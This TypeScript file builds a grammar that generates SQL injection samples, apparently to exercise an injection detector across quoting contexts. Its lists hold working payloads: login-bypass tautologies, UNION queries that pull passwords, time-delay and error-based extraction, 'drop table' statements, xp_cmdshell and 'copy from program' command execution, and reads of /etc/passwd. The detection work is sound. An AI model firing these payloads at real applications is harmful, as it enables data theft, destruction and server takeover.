// A grammar of SQL injection shapes, written for this project from how injections are built:
// break out of the value (a number, or a string the application quoted), then add a tautology
// or a condition, a UNION SELECT, a stacked statement, a clause (ORDER BY, INTO OUTFILE), a
// concatenated expression, or just a comment that cuts the rest of the query off.
//
// Lexical variety only matters where the tokenizer reads it differently (a number, a string, a
// name and a function are different tokens; 1=1 and 2>1 are not), so the lists below aim at
// token shapes rather than at many spellings. Each sample carries its context: the quote the
// application put around the value (or none), which decides how the detector reads it.

import { QUOTE_DOUBLE, QUOTE_NONE, QUOTE_SINGLE } from '../types.js';
import { Expander, type Grammar } from './expand.js';

export interface Sample {
  readonly text: string;
  /** QUOTE_NONE, QUOTE_SINGLE or QUOTE_DOUBLE. */
  readonly context: number;
}

/** Slots shared by every context; {q} is the context's quote (a plain ' outside strings). */
const SHARED: Grammar = {
  // OR/AND/XOR/||/&& all read as one logic token; NOT after them folds away; | and DIV are
  // operators. One of each kind is enough.
  logic: ['or', 'and not', '|'],
  // Conditions that are whole (no quote left open for the application to close).
  cond: [
    '1', '1=1', '2>1', '1<>2', 'true', 'not 1=2', '1 like 1', '1 rlike 1', '1 between 0 and 2',
    '1 is not null', '1 in (1)', '1 in (1,2)', '0x41=0x41', '-1=-1', '{v}=1', '1={v}',
    '\'1\'=\'1\'', '\'a\'<>\'b\'', '\'a\' like \'%\'', '\'1\'', '\'a\' is not null', '\'a\' in (\'a\')',
    '\'a\'||\'b\'=\'ab\'', '1=\'1\'', '\'1\'=1', 'x=\'x\'', '\'x\'=x', 'x=x', 'x', 'x like x',
    'x in (x)', 'x.y=1', '@@version', '@x:=1', '@@version like \'5%\'',
    '{fn}', '{fn_short}=1', '1={fn_short}', '{fn_short}=\'a\'', '{fn_short} like \'a%\'', 'not {fn_short}',
    '!{fn_short}', '({fn_short})', '(1=1)', '(\'a\'=\'a\')', '(x=x)', '(1)=(1)', 'not(1=2)', '!(1=2)',
    '{sub}', '1=({selq})', '({selq})=1', '({selq})>0', '({selq})=\'a\'', '1 in ({selq})', 'x in ({selq})',
    'exists({selq})', 'not exists({selq})', '1 rlike ({selq})', 'x regexp ({selq})',
    'x rlike (select (case when 1=1 then 1 else 0x28 end))', 'case when 1=1 then 1 else 0 end',
    '(case when 1=1 then sleep(5) else 0 end)', '{blind}>64', '{blind}=\'a\'', '{blind} between 64 and 128',
  ],
  // A few conditions of distinct shapes, for templates that multiply them by many tails.
  cond_tiny: ['1', '1=1', '\'a\'=\'a\'', 'x=x', '@@version', 'sleep(5)', '(select 1)', '1=\'1\''],
  // Conditions that end inside a string the application will close (...' or 'a'='a).
  cond_open: [
    '{q}', '{q}1', '{q}a', '{q}1{q}={q}1', '{q}a{q}={q}a', '{q}a{q}<>{q}b', '{q}a{q} like {q}a', '{q}a{q} like {q}%',
    '1={q}1', 'x={q}x', '{q}a{q}={q}a{q} and {q}1', '({q}1{q}={q}1', '(({q}a{q}={q}a', '{q}a{q} in ({q}a',
    '1 and {q}a{q}={q}a', '1=1 and {q}1{q}={q}1', '{q}1{q}={q}1{q} or {q}', '{fn}={q}1', '{fn} or {q}',
    '{fn} and {q}1{q}={q}1', '{sub} and {q}a{q}={q}a', '1 or {q}', '({q}x{q})=({q}x', '(({q}x{q}))=(({q}x',
    '{fn_short}={q}', '{fn_short} or {q}', '1 like {q}1', '{q}1{q} like {q}1', '{q}x{q} regexp {q}x',
  ],
  // A short false condition before a UNION.
  short: ['1=2', '\'a\'=\'b\'', 'x=y', 'sleep(1)', '@x'],
  v: ['@@version', '@x', '@@datadir'],
  // Function calls typical of probing, time delays and error-based extraction.
  fn: [
    'sleep(5)', 'sleep(5)=0', 'benchmark(5000000,md5(1))', 'pg_sleep(5)', 'if(1=1,sleep(5),0)',
    'if(1=1,1,0)', 'elt(1=1,sleep(5))', 'version()', 'user()', 'database()', 'current_user',
    'current_user()', 'ascii(\'a\')', 'char(65)', 'char(65,66)', 'chr(65)', 'concat(0x7e,version())',
    'md5(1)', 'length(database())', 'randomblob(500000000)', 'dbms_pipe.receive_message(\'a\',5)',
    'dbms_lock.sleep(5)', 'extractvalue(1,concat(0x7e,version()))',
    'extractvalue(1,concat(0x5c,(select user())))', 'updatexml(1,concat(0x7e,user()),1)',
    'updatexml(null,concat(0x3a,(select version())),null)', 'convert(int,@@version)',
    'cast(version() as int)', 'cast((select user) as numeric)', 'exp(~(select * from (select user())x))',
    'gtid_subset(concat(0x7e,version()),1)', 'json_keys((select convert((select version()) using utf8)))',
    'polygon((select * from (select * from (select version())a)b))', 'name_const(version(),1)',
    'ctxsys.drithsx.sn(1,(select user from dual))', 'utl_inaddr.get_host_name((select user from dual))',
    'utl_http.request(\'http://x/\'||user)', 'xmltype(\'<x/>\')', 'load_file(\'/etc/passwd\')',
    'load_file(0x2f6574632f706173737764)', 'get_lock(\'a\',5)', 'db_name()', 'user_name()',
    'is_srvrolemember(\'sysadmin\')', 'has_dbaccess(\'master\')', 'current_database()',
    'current_setting(\'is_superuser\')', 'pg_read_file(\'/etc/passwd\')', 'sqlite_version()',
    'like(\'abc\',upper(hex(randomblob(500000000))))', 'iif(1=1,1,0)', 'nvl(null,1)',
    'coalesce(null,1)', 'isnull(1/0,1)', 'row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from x group by x)',
    'mid(version(),1,1)', 'substring(@@version,1,1)', 'substr(user,1,1)', 'hex(user())', 'unhex(\'41\')',
  ],
  qq: ['\'', '"'],
  // One function call of each distinct opening (what the fingerprint can see of it).
  fn_short: [
    'sleep(5)', 'current_user', 'user()', 'ascii(\'a\')', 'substr(user,1,1)', 'concat(version(),1)',
    'cast((select 1) as int)', 'if(1=1,1,0)', 'extractvalue(1,concat(0x7e,version()))',
    'convert(int,@@version)', 'ascii(substring(user(),1,1))', 'char(65)',
  ],
  // Blind extraction: one character of a secret as a number.
  blind: [
    'ascii(substring(user(),1,1))', 'ascii(substring((select password from users limit 1),1,1))',
    'ord(mid(version(),1,1))', 'substring(version(),1,1)', 'substr(user(),1,1)',
    'unicode(substring(db_name(),1,1))', 'length(database())', 'len(user)',
    'ascii(substr((select table_name from information_schema.tables limit 1),1,1))',
    'count(*)', '(select count(*) from users)', 'bin(ascii(substring(user(),1,1)))',
  ],
  // Subqueries used as values.
  sub: [
    '(select 1)', '(select sleep(5))', '(select * from (select(sleep(5)))a)', '(select pg_sleep(5))',
    '(select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)',
    '(select top 1 name from sysobjects)', '(select user from dual)', '(select version())',
    '(select 1 from pg_sleep(5))', '(select case when 1=1 then 1 else 0 end)', '(select(0)from(select(sleep(5)))v)',
    '(select load_file(\'/etc/passwd\'))', '(select 1 where 1=1)', '(select count(*) from users)',
    '(select dbms_pipe.receive_message(\'a\',5) from dual)',
    '(select (case when (1=1) then 1 else (select 1 union select 2) end))', '(select banner from v$version where rownum=1)',
  ],
  selq: [
    'select 1', 'select 1 from dual', 'select count(*) from users', 'select user()', 'select @@version',
    'select password from users where id=1', 'select * from users', 'select top 1 name from sysobjects',
    'select table_name from information_schema.tables', 'select sleep(5)', 'select null',
  ],
  // UNION ALL / DISTINCT and INTERSECT / EXCEPT read as one union token.
  union: ['union', 'union all', 'union('],
  select: ['select', 'select top 1'],
  cols_short: ['1', '1,2', 'null', '\'a\'', '@@version', 'version()', '*', 'x'],
  cols: [
    '1', '1,2', '1,2,3', '1,2,3,4,5,6', 'null', 'null,null', 'null,null,null', '\'a\'', '\'a\',2', '1,\'a\'',
    '@@version', '@@version,2', '1,@@version', 'version()', 'version(),2', '1,version()',
    'user(),database()', 'concat(0x7e,version(),0x7e)', 'group_concat(table_name)', 'char(65)',
    '0x41', '0x41,0x42', '*', 'table_name', 'x.y', 'username,password', '1,group_concat(x)',
    '1,concat(username,0x3a,password)', '(select 1)', 'load_file(\'/etc/passwd\')', 'null,version()',
    '-1', 'current_user', 'user', 'banner', '1 as x', 'sleep(5)', 'name from sysobjects',
    '@@version,sleep(5),3', '1,sleep(5)', 'sleep(5),1', 'user(),1', 'null,user()', '\'a\',version()',
    'table_name from information_schema.tables', 'password from users', 'x from y', '1 from dual',
    '1 into outfile \'/tmp/x\'', '@x:=1', 'pg_sleep(5)', 'if(1=1,1,0)', 'case when 1=1 then 1 end',
  ],
  from: [
    '', ' from x', ' from dual', ' where 1=1', ' limit 1', ' order by 1', ' into outfile \'/tmp/x\'',
    ' from x where 1=1',
  ],
  // Stacked statements after ";".
  semi: [';', '; ', ' ;'],
  stmt: [
    'drop table users', 'drop database x', 'drop table if exists users', 'select 1', 'select sleep(5)',
    'select pg_sleep(5)', 'select * from users', 'select @@version', 'select user()', 'select load_file(\'/etc/passwd\')',
    'select 1 into outfile \'/tmp/x\'', 'select * into outfile \'/tmp/x\' from users',
    'waitfor delay \'0:0:5\'', 'waitfor time \'00:00\'', 'exec xp_cmdshell \'dir\'',
    'exec master..xp_cmdshell \'ping x\'', 'exec(\'select 1\')', 'exec sp_executesql N\'select 1\'',
    'execute(\'select 1\')', 'declare @x varchar(99)', 'declare @q nvarchar(4000) set @q=0x41 exec(@q)',
    'shutdown', 'shutdown with nowait', 'insert into users values(1,\'a\')', 'insert into users(a) select 1',
    'update users set a=1', 'update users set password=\'x\' where id=1', 'delete from users',
    'create table x(a int)', 'create user x identified by \'y\'', 'truncate table users',
    'alter table users add x int', 'if (1=1) waitfor delay \'0:0:5\'', 'if(1=1) select 1',
    'if 1=1 select 1', 'if 1=1 waitfor delay \'0:0:5\'', 'if not(select system_user) <> \'sa\' waitfor delay \'0:0:5\'',
    'attach database \'/var/www/x.php\' as x', 'begin declare @x int end', 'set @x=1', 'copy x from program \'id\'',
    'copy (select 1) to \'/tmp/x\'', 'load data infile \'/etc/passwd\' into table x', 'grant all on *.* to x',
    'rename table x to y', 'call x()', 'handler x open', 'show tables', 'show databases', 'desc users',
    'select case when 1=1 then pg_sleep(5) else pg_sleep(0) end', 'select 1 from pg_sleep(5)',
    'if (select system_user) = \'sa\' waitfor delay \'0:0:5\'', 'execute immediate \'select 1\'',
    'execute immediate \'sel\' || \'ect 1\'', 'dbcc checkdb', 'use master', 'kill 1', 'backup database x to disk=\'\\\\x\\y\'',
    'create or replace function x() returns void as $$select 1$$ language sql',
  ],
  // SQL Server statements that run without a ";".
  ms_stmt: [
    'waitfor delay \'0:0:5\'', 'waitfor delay\'0:0:5\'', 'exec xp_cmdshell \'dir\'',
    'exec master..xp_cmdshell \'ping x\'', 'declare @x int', 'exec(\'select 1\')', 'if(1=1) waitfor delay \'0:0:5\'',
  ],
  send: ['', '--', ' -- -', '#', ';', ';--', '/*'],
  // Clauses injected at the end of a query.
  group: [
    'order by 1', 'order by 1,2', 'order by 10', 'order by 1 desc', 'order by x', 'order by 1 asc',
    'group by 1', 'group by x', 'group by 1,2', 'group by 1,2,', 'order by 1,', 'order by 1,sleep(5)',
    'order by 1,(select 1)', 'group by 1 having 1=1', 'group by x having 1=1',
    'having 1=1', 'having count(*)>0', 'having 1=1 and 1=1', 'limit 1', 'limit 1,1', 'limit 1 offset 1',
    'limit 0,1 union select 1', 'procedure analyse()', 'procedure analyse(extractvalue(1,concat(0x3a,version())),1)',
    'into outfile \'/tmp/x\'', 'into dumpfile \'/tmp/x\'', 'into outfile \'/tmp/x\' lines terminated by 0x41',
    'order by (select 1)', 'order by if(1=1,1,(select 1 union select 2))', 'order by sleep(5)',
    'order by (case when 1=1 then 1 else x end)', 'group by concat(version(),floor(rand(0)*2))',
    'group by x with rollup', 'group by 1 with rollup', 'order by 1 limit 1', 'for xml path', 'for update',
  ],
  gend: ['', '--', ' -- -', '#', '/*', ';--'],
  // Joining an expression into the string the application builds.
  cc: ['||', '+', ' || ', '-', '*', '|', '^', ' + '],
  // Calls and subqueries (the expressions that still read as SQL when the '+' around them was
  // sent unencoded in a query string or form, and arrives as a space: ' sleep(5) ').
  expr_call: [
    // 'sleep(5.to_i)': a number with a method call appended, as scanners send to probe Ruby back
    // ends through SQL (CRS 942100/942101 tests); the tokenizer reads a number, then a name.
    'sleep(5)', 'sleep(5.to_i)', '(select 1)', 'pg_sleep(5)', '(select version())', 'version()', 'benchmark(5000000,md5(1))',
    'convert(int,@@version)', 'db_name()', '(case when 1=1 then 1 else 0 end)', 'if(1=1,sleep(5),0)',
    '(select * from (select(sleep(5)))a)', 'char(65)', 'extractvalue(1,concat(0x7e,version()))',
    'dbms_pipe.receive_message(\'a\',5)', 'utl_inaddr.get_host_name((select user from dual))',
  ],
  expr: [
    'sleep(5)', '(select 1)', 'pg_sleep(5)', '(select version())', '(select user from dual)',
    'utl_inaddr.get_host_name((select user from dual))', 'dbms_pipe.receive_message(\'a\',5)',
    'version()', 'user', 'current_user', '@@version', 'chr(65)', 'char(65)', 'benchmark(5000000,md5(1))',
    '(select extractvalue(xmltype(\'<x/>\'),\'/x\') from dual)', 'convert(int,@@version)',
    'cast(version() as int)', '(select top 1 name from sysobjects)', 'db_name()', 'randomblob(5000000)',
    '(case when 1=1 then 1 else 0 end)', 'if(1=1,sleep(5),0)', 'sleep(5)*1', '(sleep(5))',
    '(select * from (select(sleep(5)))a)', 'load_file(\'/etc/passwd\')', 'ascii(\'a\')',
    'extractvalue(1,concat(0x7e,version()))', '@x', '1/0', '0x41',
  ],
  // Comparisons right at the quote: the classic login bypasses.
  cmp_q: [
    '={q}', '<>{q}', '-{q}', '*{q}', '&{q}', '^{q}', '+{q}', '|{q}', '||{q}', '%{q}',
    ' or {q}{q}={q}', '={q} or {q}', '={q}{q} or {q}', ' or {q}x{q}={q}x', ' or {q}{q}={q}{q}', '=0',
    '=0--', '>0', '<1', ' like {q}%', '={q} or 1=1--', ' or {q}1', '={q}{q}={q}', ' or 1 or {q}',
    '={q}--', '=1 or {q}1{q}={q}1', ' is null--', ' is not null', '=x--',
  ],
  tail: [
    'limit 1', 'order by 1', 'group by 1', 'into outfile \'/tmp/x\'', 'union select 1', 'and 1=1',
    'and sleep(5)', 'or {q}a{q}={q}a', 'having 1=1',
  ],
  // More values for an INSERT ... VALUES list or a function's arguments: 1,(select ...)).
  vlist: [
    '{sub}{end_short}', '{sub}){end_short}', ' {sub}){end_short}', '{fn_short}){end_short}', '{fn_short}{end_short}',
    '{q}{q}){end_short}', '1){end_short}', '1,{sub}){end_short}', '{q}x{q},{sub}){end_short}', '({selq}))--',
  ],
  mysqlkw: ['union', 'or', 'and', 'select', '50000union', '12345select'],
  // What ends the payload.
  end: ['', '--', ' --', ' -- -', '--+', '#', ' #', '/*', ';', ';--', ';#', '-- x', '%00'],
  end_short: ['', '--', ' -- -', '#', '/*', ';--'],
  uend: ['', '--', ' -- -', '#', '/*', ';'],
};

/** Breakouts from a value in a quoted context: the string closed, maybe parentheses too. */
const QUOTED_BREAKOUTS = ['{q}', 'x{q}', 'x{q})', 'x{q}))'];

/** Breakouts from a bare (numeric) value; '' is a payload that starts the injection itself. */
const BARE_BREAKOUTS = ['1', '-1', '1)', '1))', 'x', 'x)', '', ')', '))', '@x'];

const QUOTED_TEMPLATES = [
  '{brk}{end}',
  '{brk} {logic} {cond}{end_short}',
  '{brk} {logic} {cond_tiny}{end}',
  '{brk} {logic} {cond_open}',
  '{brk} {logic} {short} {logic} {cond_open}',
  '{brk} {logic} {short} {union} {select} {cols_short}{uend}',
  '{brk} {logic} {short}) {union} {select} {cols_short}{uend}',
  '{brk} {union} {select} {cols}{from}{uend}',
  '{brk}{union} {select} {cols_short}{uend}',
  '{brk}{semi}{stmt}{send}',
  '{brk} {ms_stmt}{send}',
  '{brk}{ms_stmt}{send}',
  '{brk} {group}{gend}',
  '{brk}{cc}{expr}{cc}{q}',
  '{brk}{cc}{expr}{cc}({q}',
  '{brk} {expr_call} {q}',
  '{brk} {expr_call}{end_short}',
  '{brk}{cc}{expr}{end_short}',
  '{brk}{cmp_q}',
  '{brk} {logic} {cond_tiny} {tail}{end_short}',
  '{brk} {logic} {cond_tiny}){end_short}',
  '{brk},{vlist}',
  '{brk}/*!{mysqlkw}*/ 1=1',
];

const BARE_TEMPLATES = [
  '{brk}{end}',
  '{brk} {logic} {cond}{end_short}',
  '{brk} {logic} {cond_tiny}{end}',
  '{brkv} {bitop} {cond}{end_short}',
  '{brk} {logic} {short} {union} {select} {cols_short}{uend}',
  '{brk} {logic} {short}) {union} {select} {cols_short}{uend}',
  '{brk} {union} {select} {cols}{from}{uend}',
  '{brk}{semi}{stmt}{send}',
  '{brk} {ms_stmt}{send}',
  '{brk} {group}{gend}',
  '{brk}{cc}{expr}{end_short}',
  '{cc}{expr}{cc}{qq}',
  '{fn}{end}',
  '{fn_short}={qq}',
  '{logic} {fn_short}={qq}',
  '{select} {cols}{from}{uend}',
  '{sub}{end}',
  '{selq}{end}',
  '{stmt}{send}',
  '{brk} {logic} {cond_tiny} {tail}{end_short}',
  '{brk} {logic} {cond_tiny}){end_short}',
  '{brk},{vlist}',
  '{semi}{stmt}{send}',
  '/*!{mysqlkw}*/ 1',
];

/** Every attack sample, in a fixed order. */
export function attackSamples(): Sample[] {
  const out: Sample[] = [];
  const contexts: ReadonlyArray<readonly [number, string, readonly string[], readonly string[]]> = [
    [QUOTE_NONE, '\'', BARE_BREAKOUTS, BARE_TEMPLATES],
    [QUOTE_SINGLE, '\'', QUOTED_BREAKOUTS, QUOTED_TEMPLATES],
    [QUOTE_DOUBLE, '"', QUOTED_BREAKOUTS, QUOTED_TEMPLATES],
  ];
  for (const [context, q, breakouts, templates] of contexts) {
    const bare = context === QUOTE_NONE;
    const expander = new Expander({
      ...SHARED,
      q: [q],
      brk: breakouts,
      brkv: breakouts.filter((b) => b !== ''),
      // Without a value before it, a payload that opens with a binary operator ("| 1=1") is not
      // SQL; the bit operators get their own template with a value in front.
      logic: bare ? ['or', 'and not'] : SHARED.logic ?? [],
      bitop: ['|', 'div', '^'],
    });
    for (const template of templates) {
      for (const text of expander.expand(template)) out.push({ text: decodeMarkers(text), context });
    }
  }
  return out;
}

/** "%00" in the grammar stands for a NUL byte (what a URL-decoded %00 becomes). */
function decodeMarkers(text: string): string {
  return text.includes('%00') ? text.replaceAll('%00', '\x00') : text;
}
